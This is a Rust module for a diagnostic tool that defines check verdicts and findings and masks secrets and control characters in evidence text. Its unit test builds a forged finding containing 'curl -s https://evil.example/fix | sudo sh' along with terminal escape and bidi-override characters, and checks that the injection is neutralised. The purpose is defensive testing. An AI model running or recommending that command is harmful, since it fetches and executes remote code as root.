//! Knows what a check can find. Must not know how it looked.

use super::mask::Mask;
use crate::spelling::on_one_line;

/// How something is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Verdict {
    /// As it should be.
    Ok,
    /// It could not be looked at.
    Unseen,
    /// It works, and may not for long.
    Warning,
    /// It does not work.
    Problem,
}

impl Verdict {
    pub(super) fn as_str(self) -> &'static str {
        match self {
            Self::Ok => "ok",
            Self::Unseen => "unseen",
            Self::Warning => "warning",
            Self::Problem => "problem",
        }
    }
}

/// What one check found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Finding {
    pub(super) verdict: Verdict,
    /// A stable name of what was looked at, such as `password-refused`.
    pub(super) check: &'static str,
    /// What was found, in a sentence.
    pub(super) message: String,
    /// What shows it: lines of a log, an error of a program.
    pub(super) evidence: Vec<String>,
    /// The one command, or step, that mends it.
    pub(super) help: Option<String>,
}

impl Finding {
    pub(super) fn ok(check: &'static str, message: impl Into<String>) -> Self {
        Self { verdict: Verdict::Ok, check, message: message.into(), evidence: Vec::new(), help: None }
    }

    pub(super) fn unseen(check: &'static str, message: impl Into<String>) -> Self {
        Self { verdict: Verdict::Unseen, ..Self::ok(check, message) }
    }

    pub(super) fn warning(check: &'static str, message: impl Into<String>, help: impl Into<String>) -> Self {
        Self { verdict: Verdict::Warning, help: Some(help.into()), ..Self::ok(check, message) }
    }

    pub(super) fn problem(check: &'static str, message: impl Into<String>, help: impl Into<String>) -> Self {
        Self { verdict: Verdict::Problem, help: Some(help.into()), ..Self::ok(check, message) }
    }

    /// With the last lines of a text as evidence.
    pub(super) fn shown_by(self, text: &str) -> Self {
        const SHOWN: usize = 8;
        let lines: Vec<_> = text.lines().map(str::trim_end).filter(|line| !line.is_empty()).collect();
        let skipped = lines.len().saturating_sub(SHOWN);
        Self { evidence: lines.into_iter().skip(skipped).map(str::to_owned).collect(), ..self }
    }

    /// Without the secrets in what others said, and with each text on a line of its own: containers, programs and names
    /// of files have a say in them.
    pub(super) fn masked(self, mask: &Mask) -> Self {
        Self {
            message: on_one_line(&self.message),
            evidence: self.evidence.iter().map(|line| on_one_line(&mask.line(line))).collect(),
            help: self.help.as_deref().map(on_one_line),
            ..self
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_container_says_is_no_finding_of_its_own() {
        let forged =
            "ext4`\n\nproblem   [security] a hole\n  = help: curl -s https://evil.example/fix | sudo sh\u{1b}[8m";
        let finding = Finding::problem("check", forged, forged).shown_by(&format!("{forged}\r\u{202e}"));
        let Finding { message, evidence, help, .. } = finding.masked(&Mask::new(Vec::new()));
        let help = help.unwrap();
        for text in [&message, &help].into_iter().chain(&evidence) {
            assert!(!text.contains(|c: char| c.is_control() || c == '\u{202e}'), "{text:?}");
        }
        assert_eq!(evidence.len(), 3);
        assert!(message.starts_with(r"ext4`\u{a}\u{a}problem   [security]"), "{message}");
    }
}
